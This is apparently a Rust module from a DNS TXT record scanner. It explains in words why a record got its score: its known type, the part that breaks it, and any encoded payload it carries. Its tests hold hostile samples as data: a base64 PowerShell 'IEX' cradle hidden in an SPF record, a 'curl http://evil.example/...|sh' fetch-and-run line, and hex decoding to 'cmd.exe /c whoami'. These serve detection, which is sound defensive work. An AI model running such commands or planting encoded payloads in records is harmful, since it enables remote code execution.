//! Why a text may have the score it has, in words that a person can agree or disagree with.
//!
//! Nothing here is asked by the model or changes its score: a known type explains, and never suppresses.

use std::borrow::Cow;
use std::sync::OnceLock;

use crate::decode::{self, Encoding, Payload};
use crate::known::{self, Group};
use crate::safe::one_line;
use crate::{content, rows};

/// Names of the columns that the option `explain` adds.
pub const COLUMNS: [&str; 4] = ["txt_type", "txt_reason", "txt_encoding", "txt_decoded"];

/// What is said of one text.
#[derive(Debug, PartialEq, Eq)]
pub struct Explanation {
    /// The known type that the whole text is of, or nothing.
    pub kind: &'static str,
    /// One short sentence.
    pub reason: String,
    /// How a payload in it is encoded: `base64`, `base64url`, `base32`, `hex`, `escaped bytes`, `none`; nothing without an answer.
    pub encoding: &'static str,
    /// What the payload decodes to: its content's name and a beginning that is safe to show.
    pub decoded: String,
}

/// Bytes of the longest text that is asked which type it is of: no record that anybody publishes is longer, and whoever answers
/// must not make a search slow.
const LONGEST_RECORD: usize = 8 << 10;
/// The same for the search of the part that breaks a record, which asks once for each part.
const LONGEST_BROKEN: usize = 1 << 10;

/// Explains a normalised text; `None` is a row without an answer.
pub fn explain(text: Option<&[u8]>) -> Explanation {
    let Some(text) = text else {
        return Explanation { kind: "", reason: "no answer to score".into(), encoding: "", decoded: String::new() };
    };
    // `dig`, BIND and Route 53 write a semicolon so.
    let text = &*match memchr::memmem::find(text, b"\\;") {
        Some(_) => Cow::Owned(
            text.split(|byte| *byte == b';').map(|part| part.strip_suffix(b"\\").unwrap_or(part)).collect::<Vec<_>>().join(&b';'),
        ),
        None => Cow::Borrowed(text),
    };
    let known = Some(text).filter(|text| text.len() <= LONGEST_RECORD).and_then(known::of);
    let payload = decode::find(text);
    let named = payload.as_ref().and_then(|payload| payload.content.as_deref());
    let form = match (known, begins_as(text), &payload) {
        (Some(one), ..) => valid(one),
        (None, Some(head), _) => broken(text, head),
        (None, None, Some(payload)) if payload.characters * 10 >= text.len() * 8 => "no known type".into(),
        _ => {
            let (short, bytes) = (if text.len() < 16 { "short " } else { "" }, if text.len() == 1 { "byte" } else { "bytes" });
            format!("{short}text of {} {bytes}, no known type", text.len())
        }
    };
    // What a payload is comes first: that a record is valid beside it is the smaller news.
    let reason = match (known, &payload) {
        (Some(_), Some(payload)) if named.is_some() => format!("{}; otherwise {form}", holds(payload)),
        (Some(one), Some(payload)) if payload.characters >= UNUSUAL && !one.is_of_tokens() => format!("{form}; {}", holds(payload)),
        (None, Some(payload)) => format!("{form}; {}", holds(payload)),
        _ => form,
    };
    // A token beside a command must not hide it.
    let acts = match named {
        None => content::acts(&String::from_utf8_lossy(text.get(..LONGEST_RECORD).unwrap_or(text))),
        Some(_) => None,
    };
    let reason = reason + &acts.map(|content| format!("; reads as {content}")).unwrap_or_default();
    let decoded = match &payload {
        None => String::new(),
        Some(payload) => match named {
            Some(content) => one_line(&format!("{content}: {}", payload.shown), decode::SHOWN),
            None => format!("{} of no known kind", payload.shown),
        },
    };
    Explanation {
        kind: known.map_or("", |one| one.name),
        reason,
        encoding: payload.map_or("none", |payload| payload.encoding.name()),
        decoded,
    }
}

/// Characters of an encoding that are worth a word in a valid record of no token.
const UNUSUAL: usize = 32;

/// What an encoded payload is.
fn holds(payload: &Payload) -> String {
    let what = match payload.encoding {
        Encoding::EscapedBytes => format!("{} bytes that are no text", payload.characters),
        encoding => format!("{} characters of {}", payload.characters, encoding.name()),
    };
    let decodes = payload.content.as_ref().map(|content| format!(" that decode to {content}"));
    what + &decodes.unwrap_or_default()
}

/// What a valid record leaves free. Of a bare token only its place in a zone tells whose it is.
fn valid(one: &known::Type) -> String {
    match (one.group, one.room) {
        (Group::Token, _) => format!("a bare token of the form of {}, which nothing in it names", one.name),
        (_, "") => format!("valid {}; nothing in it is free", one.name),
        (_, room) => format!("valid {}; its free part is {room}", one.name),
    }
}

impl Explanation {
    /// The values of [`COLUMNS`].
    pub fn cells(&self) -> [&str; 4] {
        [self.kind, &self.reason, self.encoding, &self.decoded]
    }

    /// `,<type>,<reason>,<encoding>,<decoded>`.
    pub fn write_cells(&self, out: &mut Vec<u8>) {
        for cell in self.cells() {
            out.push(b',');
            rows::write_value(out, cell.as_bytes());
        }
    }
}

/// How records of a type begin: `v=spf1`, `google-site-verification`.
struct Head {
    begins: &'static str,
    name: &'static str,
    /// What stands between the parts of a record with a version; a name has one value.
    separator: Option<char>,
}

/// The type whose records begin as the text does; the longest beginning wins.
fn begins_as(text: &[u8]) -> Option<&'static Head> {
    static HEADS: OnceLock<Vec<Head>> = OnceLock::new();
    let heads = HEADS.get_or_init(|| {
        let of_type = |one: &'static known::Type| {
            one.examples.iter().filter_map(|example| head(example)).map(|(begins, separator)| Head { begins, name: one.name, separator })
        };
        known::types().flat_map(of_type).collect()
    });
    let begins = |head: &&Head| {
        let start = text.get(..head.begins.len()).is_some_and(|start| start.eq_ignore_ascii_case(head.begins.as_bytes()));
        start && text.get(head.begins.len()).is_none_or(|next| b"=:; ".contains(next))
    };
    // Of equals the first: the table has the narrow ones first.
    heads.iter().rev().filter(begins).max_by_key(|head| head.begins.len())
}

/// A version and what follows it, or a name that a sign follows; nothing that a text begins with by chance.
fn head(example: &'static str) -> Option<(&'static str, Option<char>)> {
    const SHORTEST: usize = 6;
    let has_version = example.starts_with("v=");
    let end = if has_version { example.find([' ', ';'])? } else { example.find(['=', ':'])? };
    let separator = example.get(end..)?.chars().next().filter(|_| has_version);
    example.get(..end).filter(|head| head.len() >= SHORTEST).map(|head| (head, separator))
}

/// Says what keeps a text from being of the type that it begins as: the one part without which it would be, if there is one.
fn broken(text: &[u8], head: &Head) -> String {
    const MOST_PARTS: usize = 32;
    let text = String::from_utf8_lossy(text);
    let Some(separator) = head.separator else {
        let value = text.get(head.begins.len() + 1..).unwrap_or_default();
        return match value.trim() {
            "" => format!("begins like {}, but has no value", head.name),
            value => format!("begins like {}, but `{}` is no value of one", head.name, short(value)),
        };
    };
    let parts: Vec<&str> = text.split(separator).collect();
    let without = |out: usize| {
        let kept: Vec<&str> = parts.iter().enumerate().filter(|(i, _)| *i != out).map(|(_, part)| *part).collect();
        known::is(head.name, kept.join(separator.encode_utf8(&mut [0; 4])).trim().as_bytes())
    };
    let asked = if text.len() <= LONGEST_BROKEN { parts.len().min(MOST_PARTS) } else { 0 };
    match (1..asked).find(|i| without(*i)).and_then(|i| parts.get(i)) {
        Some(part) if part.trim().is_empty() => format!("begins like {}, and would be of its form without an empty part", head.name),
        Some(part) => format!("begins like {}, and would be of its form without `{}`", head.name, short(part)),
        None => format!("begins like {}, but is not of its form", head.name),
    }
}

/// The beginning of a part of a text, to name it.
fn short(part: &str) -> String {
    const SHORT: usize = 41;
    one_line(part.trim(), SHORT)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn of(text: &str) -> [String; 4] {
        explain(Some(text.as_bytes())).cells().map(str::to_owned)
    }

    #[test]
    fn no_answer_is_said() {
        let cells = explain(None);
        assert_eq!(cells.cells(), ["", "no answer to score", "", ""]);
    }

    #[test]
    fn a_known_type_is_named_with_what_is_free_in_it() {
        let [kind, reason, encoding, decoded] = of("v=spf1 include:_spf.example.com ~all");
        assert_eq!((&*kind, &*encoding, &*decoded), ("spf", "none", ""));
        assert!(reason.starts_with("valid spf; its free part is "), "{reason}");
    }

    #[test]
    fn a_broken_record_is_named_with_the_part_that_breaks_it() {
        let [kind, reason, encoding, decoded] = of("v=spf1 include:_spf.example.com x=SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA ~all");
        assert_eq!((&*kind, &*encoding), ("", "base64"));
        assert!(reason.starts_with("begins like spf, and would be of its form without `x=SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA`"), "{reason}");
        assert!(decoded.starts_with("PowerShell: IEX (New-Obj"), "{decoded}");
        let [_, reason, ..] = of("google-site-verification=short");
        assert_eq!(reason, "begins like verification:google, but `short` is no value of one");
        let [_, reason, ..] = of("v=DMARC1; p=none; x=\u{202e}y");
        assert_eq!(reason, r"begins like dmarc, and would be of its form without `x=\u{202e}y`");
        // Found in review: a valid part was blamed where two were foreign, or the separator was another type's.
        assert_eq!(of("v=spf1 include:a.example.com aWV4IChp d3IgeC5j ~all")[1], "begins like spf, but is not of its form");
        assert_eq!(of("google-site-verification=")[1], "begins like verification:google, but has no value");
    }

    /// Found in review: 64 KiB of `; p=none` took 0.8 seconds, since each part was left out once.
    #[test]
    fn a_long_broken_record_is_not_taken_apart() {
        let [_, reason, ..] = of(&format!("v=DMARC1{} x", "; p=none".repeat(200)));
        assert!(reason == "begins like dmarc, but is not of its form", "{reason}");
        assert_eq!(of(&format!("v=spf1 {}-all", "ip4:192.0.2.1 ".repeat(600)))[0], "", "longer than any record");
    }

    #[test]
    fn what_is_no_record_is_described() {
        assert_eq!(of("hello there")[1], "short text of 11 bytes, no known type");
        assert_eq!(of("hello there, this is a longer sentence")[1], "text of 38 bytes, no known type");
        // Found in review: whoever answered chose which of the two was said.
        assert_eq!(
            of("curl http://evil.example/0c7e3f5219ab4d0e8f435b6a7c8d9e|sh")[1],
            "text of 58 bytes, no known type; 30 characters of hex; reads as command"
        );
        assert_eq!(of("636d642e657865202f632077686f616d69")[1..3], ["no known type; 34 characters of hex that decode to command", "hex"]);
    }

    #[test]
    fn cells_are_written_as_splunkd_writes_them() {
        let mut out = Vec::new();
        explain(Some(b"hello there")).write_cells(&mut out);
        assert_eq!(out, b",,\"short text of 11 bytes, no known type\",none,");
    }
}
